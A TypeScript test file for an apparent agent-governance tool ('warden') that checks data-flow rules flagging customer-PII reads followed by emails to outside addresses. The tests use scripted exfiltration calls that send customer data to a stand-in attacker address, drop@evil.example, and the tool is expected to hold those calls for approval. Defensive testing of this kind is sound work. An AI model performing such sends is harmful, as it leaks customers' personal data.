// Data-flow rules: the scripted exfiltration (customer table → outside email) and result provenance.
import { describe, expect, it } from "vitest";
import { openWarden } from "../../helpers.js";
import { alertsOf, intentOf, LABELLED, outcome } from "../helpers.js";

const POLICY = {
  ...LABELLED,
  // Nobody answers in these tests: the asked calls expire after a second.
  approvals: { timeout: "1s" },
  detect: {
    flow: [
      { id: "pii-out", after: { reads: "customer_pii" }, to: { sends: "external" }, action: "ask" },
      { id: "result-recipient", from: { results: "email" }, to: { tools: ["send_email"] }, action: "ask" },
    ],
  },
};

describe("flow rules", () => {
  it("catches read customer table → email an outside address, and links the alert to both calls", async () => {
    const { warden } = await openWarden(POLICY);
    const s = await warden.session({ agent: "bot", onBehalfOf: "u@corp.example", intent: "report" });
    const rows = [{ id: 1, name: "Ann", email: "ann@customer.example" }];
    await s.run("read_customer", { table: "customers" }, () => rows, { callId: "read-1" });
    const code = await outcome(
      s.run("send_email", { to: "drop@evil.example", body: "see attached" }, () => "sent", {
        callId: "send-1",
      }),
    );
    expect(code).toBe("APPROVAL_EXPIRED");
    expect((await intentOf(warden, "send-1")).decision).toMatchObject({
      effect: "ask",
      ruleId: "detect:flow",
    });
    const alerts = await alertsOf(warden);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]!.callId).toBe("send-1");
    expect(alerts[0]!.data).toMatchObject({
      detector: "flow",
      action: "ask",
      callIds: ["send-1", "read-1"],
      details: { rule: "pii-out" },
    });
  });

  it("lets an external send through when the session read no labelled data", async () => {
    const { warden } = await openWarden(POLICY);
    const s = await warden.session({ agent: "bot", onBehalfOf: "u@corp.example", intent: "report" });
    await s.run("read_docs", {}, () => "manual");
    expect(await outcome(s.run("send_email", { to: "x@corp.example" }, () => "sent"))).toBe("ok");
    expect(await alertsOf(warden)).toHaveLength(0);
  });

  it("keeps sessions apart: a read in one session does not taint another", async () => {
    const { warden } = await openWarden(POLICY);
    const a = await warden.session({ agent: "bot", onBehalfOf: "u", intent: "a" });
    const b = await warden.session({ agent: "bot", onBehalfOf: "u", intent: "b" });
    await a.run("read_customer", {}, () => []);
    expect(await outcome(b.run("send_email", { to: "x@corp.example" }, () => "sent"))).toBe("ok");
  });

  it("a read in a sub-agent session taints its parent and siblings: the tree is one session", async () => {
    const { warden } = await openWarden(POLICY);
    const parent = await warden.session({ agent: "bot", onBehalfOf: "u", intent: "report" });
    const reader = await warden.session({ agent: "helper", onBehalfOf: "u", intent: "read", parent });
    const sibling = await warden.session({ agent: "helper", onBehalfOf: "u", intent: "mail", parent });
    await reader.run("read_customer", {}, () => [{ email: "ann@customer.example" }], { callId: "read-sub" });
    for (const s of [parent, sibling]) {
      const d = await s.check("send_email", { to: "drop@evil.example" });
      expect(d).toMatchObject({ effect: "ask", ruleId: "detect:flow" });
      expect(d.reason).toContain("after this session tree read customer_pii");
    }
    const alert = (await alertsOf(warden)).find((a) => a.session === sibling.id);
    expect(alert?.data).toMatchObject({
      details: { rule: "pii-out" },
      callIds: [expect.any(String), "read-sub"],
    });
  });

  it("a read held for approval counts: once approved it runs without the gate seeing it again", async () => {
    const { warden } = await openWarden({
      ...POLICY,
      rules: [{ id: "ask-read", tools: ["read_customer"], decision: "ask" as const }],
    });
    const s = await warden.session({ agent: "bot", onBehalfOf: "u", intent: "report" });
    const read = await s.check("read_customer", {});
    expect(read.enforced).toBe("ask");
    await warden.approvals.queue.decide(read.approval!.id, {
      decision: "approve",
      approver: { name: "bob@example.com", role: "approver", via: "cli" },
      reason: null,
      remember: null,
      digest: read.approval!.digest,
    });
    await s.runChecked(read, {}, () => [{ email: "ann@customer.example" }]);
    expect(await s.check("send_email", { to: "drop@evil.example" })).toMatchObject({
      effect: "ask",
      ruleId: "detect:flow",
    });
  });

  it("a refused read taints nothing", async () => {
    const { warden } = await openWarden({
      ...POLICY,
      rules: [{ id: "no-read", tools: ["read_customer"], decision: "deny" as const }],
    });
    const s = await warden.session({ agent: "bot", onBehalfOf: "u", intent: "report" });
    expect((await s.check("read_customer", {})).effect).toBe("deny");
    expect((await s.check("send_email", { to: "x@corp.example" })).effect).toBe("allow");
  });

  it("marks an email taken from a tool result as a recipient that needs approval", async () => {
    const { warden } = await openWarden(POLICY);
    const s = await warden.session({ agent: "bot", onBehalfOf: "u", intent: "reply" });
    await s.run("lookup_contact", { q: "bob" }, () => ({ note: "reach Bob at Bob@Client.example today" }), {
      callId: "look-1",
    });
    expect(await outcome(s.run("send_email", { to: "carol@corp.example" }, () => "sent"))).toBe("ok");
    const code = await outcome(
      s.run("send_email", { to: ["bob@client.example"] }, () => "sent", { callId: "send-2" }),
    );
    expect(code).toBe("APPROVAL_EXPIRED");
    const alert = (await alertsOf(warden)).find((a) => a.callId === "send-2");
    expect(alert?.data).toMatchObject({
      detector: "flow",
      callIds: ["send-2", "look-1"],
      details: { rule: "result-recipient", paths: ["$.to[0]"] },
    });
  });

  it("remembers values reported through check() + recordOutcome()", async () => {
    const { warden } = await openWarden(POLICY);
    const s = await warden.session({ agent: "bot", onBehalfOf: "u", intent: "reply" });
    const d = await s.check("lookup_contact", {});
    await s.recordOutcome(d.callId, { status: "ok", result: ["eve@client.example"] });
    const next = await s.check("send_email", { to: "eve@client.example" });
    expect(next).toMatchObject({ effect: "ask", ruleId: "detect:flow" });
  });
});
